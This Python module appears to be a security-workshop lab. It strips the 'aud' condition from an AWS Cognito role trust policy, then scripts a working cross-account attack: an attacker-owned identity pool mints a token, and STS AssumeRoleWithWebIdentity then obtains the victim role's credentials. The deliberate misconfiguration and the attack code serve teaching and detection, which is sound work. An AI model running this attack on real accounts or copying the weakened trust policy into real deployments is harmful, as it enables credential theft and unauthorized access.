"""Lab 4: role trust without `aud`.

An identity-pool role trusts the principal cognito-identity.amazonaws.com,
which is every identity pool in every account. Only the condition on
`cognito-identity.amazonaws.com:aud` makes it this pool's: without it, a
token from an attacker's own pool (classic flow on, so they can take the
token to STS themselves) is exchanged for your signed-in role.
https://docs.aws.amazon.com/cognito/latest/developerguide/role-trust-and-permissions.html
"""

from __future__ import annotations

import uuid

from botocore.exceptions import ClientError
from django.conf import settings

from core.deployment import Deployment
from workshop import changes
from workshop.base import AttackResult, Lab, Report
from workshop.outsider import Outsider, refused

AUD = "cognito-identity.amazonaws.com:aud"
SID = "OnlyThisIdentityPoolForAuthenticatedIdentities"
INSIDER = "bob@example.com"  # any signed-in user tells the attacker the role's ARN
ATTACKER_PASSWORD = "Attacker-Pass-1!"  # meets the attacker pool's default password policy


def _broken(*, deployment: Deployment) -> dict:
    document = changes.provisioned_trust(deployment=deployment, kind="authenticated")
    changes.statement(document, SID)["Condition"].pop("StringEquals")
    return document


def apply(*, deployment: Deployment, report: Report) -> None:
    changes.trust_put(deployment=deployment, kind="authenticated", document=_broken(deployment=deployment), report=report)


def revert(*, deployment: Deployment, report: Report) -> None:
    changes.role_restore(deployment=deployment, kind="authenticated", report=report)


def applied(*, deployment: Deployment) -> bool:
    found = changes.statement(changes.trust_get(deployment=deployment, kind="authenticated"), SID) or {}
    return AUD not in (found.get("Condition") or {}).get("StringEquals", {})


def _role_arn(assumed_arn: str) -> str:
    """arn:aws:sts::<account>:assumed-role/<role>/<session> -> the role's ARN."""
    account, rest = assumed_arn.split(":")[4], assumed_arn.split(":", 5)[5]
    return f"arn:aws:iam::{account}:role/{rest.split('/')[1]}"


def attack(*, outsider: Outsider) -> AttackResult:
    outsider.step(f"Reconnaissance: {INSIDER} signs in; STS GetCallerIdentity on his credentials names the signed-in role")
    creds = outsider.user_credentials(INSIDER, settings.DEMO_PASSWORD)
    target = _role_arn(outsider.client("sts", creds).get_caller_identity()["Arn"])
    outsider.got(f"target role {target}")

    idp, identity = outsider.own_account_client("cognito-idp"), outsider.own_account_client("cognito-identity")
    suffix = uuid.uuid4().hex[:8]
    outsider.step(
        "With the ADMIN KEY, standing in for the attacker's own AWS account: a user pool, an app client, a user, "
        "and an identity pool with the classic flow on"
    )
    pool_id = idp.create_user_pool(PoolName=f"lab04-attacker-{suffix}")["UserPool"]["Id"]
    identity_pool_id = None
    try:
        client_id = idp.create_user_pool_client(
            UserPoolId=pool_id, ClientName="attacker", ExplicitAuthFlows=["ALLOW_USER_PASSWORD_AUTH", "ALLOW_REFRESH_TOKEN_AUTH"]
        )["UserPoolClient"]["ClientId"]
        email = f"mallory-{suffix}@example.com"
        idp.admin_create_user(UserPoolId=pool_id, Username=email, MessageAction="SUPPRESS")
        idp.admin_set_user_password(UserPoolId=pool_id, Username=email, Password=ATTACKER_PASSWORD, Permanent=True)
        provider = f"cognito-idp.{outsider.region}.amazonaws.com/{pool_id}"
        identity_pool_id = identity.create_identity_pool(
            IdentityPoolName=f"lab04 attacker {suffix}",
            AllowUnauthenticatedIdentities=False,
            AllowClassicFlow=True,
            CognitoIdentityProviders=[{"ProviderName": provider, "ClientId": client_id, "ServerSideTokenCheck": False}],
        )["IdentityPoolId"]
        outsider.got(f"attacker identity pool {identity_pool_id}")

        outsider.step("The attacker signs in to their own pool and gets an OpenID token from their own identity pool")
        public_idp, public_identity = outsider.client("cognito-idp"), outsider.client("cognito-identity")
        id_token = public_idp.initiate_auth(
            ClientId=client_id, AuthFlow="USER_PASSWORD_AUTH", AuthParameters={"USERNAME": email, "PASSWORD": ATTACKER_PASSWORD}
        )["AuthenticationResult"]["IdToken"]
        logins = {provider: id_token}
        identity_id = public_identity.get_id(IdentityPoolId=identity_pool_id, Logins=logins)["IdentityId"]
        token = public_identity.get_open_id_token(IdentityId=identity_id, Logins=logins)["Token"]
        outsider.got(f"a token with aud {identity_pool_id}, amr authenticated")

        outsider.step(f"AssumeRoleWithWebIdentity into {target} with that token")
        try:
            answer = outsider.client("sts").assume_role_with_web_identity(
                RoleArn=target, RoleSessionName=f"attacker-{suffix}", WebIdentityToken=token
            )
        except ClientError as exc:
            return refused(exc)
        arn = answer["AssumedRoleUser"]["Arn"]
        outsider.got(f"credentials of {arn} (key {answer['Credentials']['AccessKeyId']})")
        return AttackResult(succeeded=True, obtained=(target, arn))
    finally:
        outsider.step("Cleanup: the admin key deletes the attacker's user pool and identity pool")
        if identity_pool_id:
            identity.delete_identity_pool(IdentityPoolId=identity_pool_id)
        idp.delete_user_pool(UserPoolId=pool_id)


LAB = Lab(
    number=4,
    slug="04-trust-no-aud",
    title="Role trust without aud",
    rule="trust-no-aud",
    apply=apply,
    revert=revert,
    applied=applied,
    attack=attack,
    culprit=(
        f'Statement "{SID}" of the signed-in role\'s trust policy has no StringEquals condition on '
        f"{AUD}, so it accepts a token from any identity pool"
    ),
)
